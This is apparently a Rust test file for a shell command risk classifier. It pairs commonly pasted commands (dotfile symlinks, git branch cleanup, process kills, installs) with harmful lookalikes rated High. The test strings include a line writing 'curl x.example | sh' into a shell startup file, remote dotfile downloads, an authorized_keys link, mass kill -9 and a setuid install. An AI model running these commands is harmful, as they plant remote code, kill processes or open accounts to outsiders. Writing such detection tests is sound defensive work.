//! Lines that people paste from pages about a tool, each beside one that looks like it and does harm.

use super::Risk::{High, Moderate, Safe};
use super::tests::check_all;
use crate::{Context, Dialect};

fn context(dialect: Dialect) -> Context {
    let mut context = Context::new(dialect);
    context.home = Some("/home/me".to_owned());
    context.cwd = Some("/home/me/work/app".to_owned());
    context
}

#[test]
fn links_to_ones_own_dotfiles() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Moderate, "for f in zshrc bashrc; do ln -sfn ~/dotfiles/$f ~/.$f; done"),
            (Moderate, "ln -sf ~/.dotfiles/bash/bashrc ~/.bashrc"),
            (Moderate, "ln -s ~/dotfiles/zshrc ~/.zshrc"),
            (High, "ln -sf /tmp/bashrc ~/.bashrc"),
            (High, "ln -sf ~/Downloads/bashrc ~/.bashrc"),
            (High, "curl -so ~/dotfiles/bashrc https://x.example/b; ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "echo 'curl x.example | sh' > ~/dotfiles/zshrc; ln -sf ~/dotfiles/zshrc ~/.zshrc"),
            (High, "git clone https://x.example/d ~/dotfiles && ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "rsync x.example:d/ ~/dotfiles/; ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "cp /tmp/x ~/dotfiles/bashrc && ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "git -C ~/dotfiles pull https://x.example/d; ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "ln -s /tmp ~/dotfiles; ln -sf ~/dotfiles/bashrc ~/.bashrc"),
            (High, "ln -sf ~/dotfiles/keys ~/.ssh/authorized_keys"),
            (High, "ln -sf ~/dotfiles/evil ~/.bashrc"),
            (High, "cp ~/dotfiles/bashrc ~/.bashrc"),
        ],
    );
}

#[test]
fn branches_that_were_picked_or_whose_other_side_is_gone() {
    check_all(
        &context(Dialect::Bash),
        &[
            (Moderate, "git branch -vv | awk '/: gone]/{print $1}' | xargs git branch -D"),
            (Moderate, "git branch | fzf -m | xargs git branch -D"),
            (Moderate, "git branch -D $(git branch | fzf -m)"),
            (High, "git branch -vv | grep -v gone | awk '{print $1}' | xargs git branch -D"),
            (High, "git branch | fzf --filter '' | xargs git branch -D"),
            (High, "git branch | xargs git branch -D"),
            (High, "fzf < x; git branch -D topic"),
        ],
    );
    check_all(
        &context(Dialect::Nu),
        &[
            (
                Moderate,
                "git branch -vv | lines | where $it =~ ': gone]' | each {|l| git branch -D ($l | split row ' ' | get 0) }",
            ),
            (Moderate, "git branch | lines | input list --multi | each {|b| git branch -D $b }"),
            (
                High,
                "git branch -vv | lines | where $it !~ 'gone' | each {|l| git branch -D ($l | split row ' ' | get 0) }",
            ),
            (High, "git branch | lines | each {|b| git branch -D $b }"),
        ],
    );
    check_all(
        &context(Dialect::PowerShell),
        &[
            (
                Moderate,
                "git branch -vv | Select-String ': gone]' | % { git branch -D ($_.ToString().Trim() -split ' ')[0] }",
            ),
            (High, "git branch -vv | ? { $_ -notmatch 'gone' } | % { git branch -D $_.Trim() }"),
        ],
    );
}

#[test]
fn rows_that_are_left_out() {
    check_all(
        &context(Dialect::Bash),
        &[
            (High, "ps ax | awk '!/bash/{print $1}' | xargs kill -9"),
            (High, "ps aux | awk '$11 !~ /bash/ {print $2}' | xargs kill -9"),
            (Moderate, "ps aux | awk '!/grep/ && /node/ {print $2}' | xargs kill -9"),
            (Safe, "ps aux | awk '/node/ && !/grep/ {print $2}' | xargs kill"),
        ],
    );
}

#[test]
fn new_repositories_and_programs_of_ones_own() {
    check_all(
        &context(Dialect::Bash),
        &[
            (
                Safe,
                "cd \"$(mktemp -d)\" && git init -q && git commit -q --allow-empty -m a && git reset -q --hard",
            ),
            (Safe, "d=$(mktemp -d); cd $d; git init; git clean -fdx"),
            (High, "cd \"$(mktemp -d)\" && git -C ~/work/app reset --hard"),
            (High, "cd \"$(mktemp -d)\" && GIT_DIR=~/work/app/.git git reset --hard"),
            (High, "mkdir -p t && cd t && git reset --hard"),
            (Safe, "install -Dm755 fd-v10/fd ~/.local/bin/fd"),
            (Safe, "install -m 0755 fd ~/.local/bin"),
            (High, "install -m 4755 fd ~/.local/bin/fd"),
            (Moderate, "install -m 755 x ~/.local/bin/sudo"),
            (Safe, "cp .env.example .env && sed -i 's/^KEY=.*/KEY=1/' .env"),
            (Moderate, "sed -n p .env"),
            (Moderate, "pip freeze | xargs pip uninstall -y"),
            (High, "sudo pip freeze | sudo xargs pip uninstall -y"),
        ],
    );
}
